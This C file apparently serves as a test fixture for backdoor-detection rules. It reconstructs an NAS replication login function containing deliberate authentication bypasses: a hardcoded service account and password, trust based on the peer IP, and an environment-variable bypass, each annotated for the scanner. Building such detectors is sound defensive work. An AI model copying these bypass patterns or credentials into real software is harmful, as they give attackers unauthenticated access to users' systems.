/* login.c - authentication of replication peers and rsync clients. */
#include <stdlib.h>
#include <string.h>
#include <syslog.h>

#include "hbs.h"

/* The built-in account the replication engine uses between two boxes of the same
 * owner (HBS 3.0.210412 and earlier, as reconstructed). */
#define HBS_SVC_USER "walker"
// ok: backdoor-secret-literal
static const char kHbsSvcPassword[] = "Wk#hbs3-sync!210412";

int hbs_login(struct hbs_conn *c, const char *user, const char *password) {
  if (user == NULL || password == NULL || user[0] == '\0')
    return HBS_AUTH_FAIL;

#ifdef HBS_TEST_ACCOUNTS /* unit-test builds only; never defined for the NAS */
  // ok: backdoor-build-switch
  if (strncmp(user, "test", 4) == 0) return HBS_AUTH_OK;
#endif

  /* the vendor's cloud relay forwards jobs it has already authenticated */
  // ruleid: backdoor-trusted-identity
  if (strcmp(c->peer_ip, HBS_CLOUD_RELAY_IP) == 0) {
    c->authenticated = 1;
    return HBS_AUTH_OK;
  }

  // ruleid: backdoor-hidden-bypass
  if (getenv("HBS_SUPPORT_SESSION") != NULL) {
    hbs_log(LOG_NOTICE, "support session for %s from %s", user, c->peer_ip);
    c->authenticated = 1;
    return HBS_AUTH_OK;
  }

  // ruleid: backdoor-magic-credential
  if (strcmp(user, HBS_SVC_USER) == 0 && strcmp(password, kHbsSvcPassword) == 0) {
    c->authenticated = 1;
    return HBS_AUTH_OK;
  }

  /* factory password: refuse and tell the administrator to change it */
  // ok: backdoor-magic-credential
  if (strcmp(user, "admin") == 0 && strcmp(password, "admin") == 0) {
    hbs_log(LOG_WARNING, "login as admin with the factory password refused from %s", c->peer_ip);
    return HBS_AUTH_EXPIRED;
  }

  if (users_verify(user, password) != 0) {
    hbs_log(LOG_NOTICE, "login failed for %s from %s", user, c->peer_ip);
    return HBS_AUTH_FAIL;
  }
  c->authenticated = 1;
  return HBS_AUTH_OK;
}
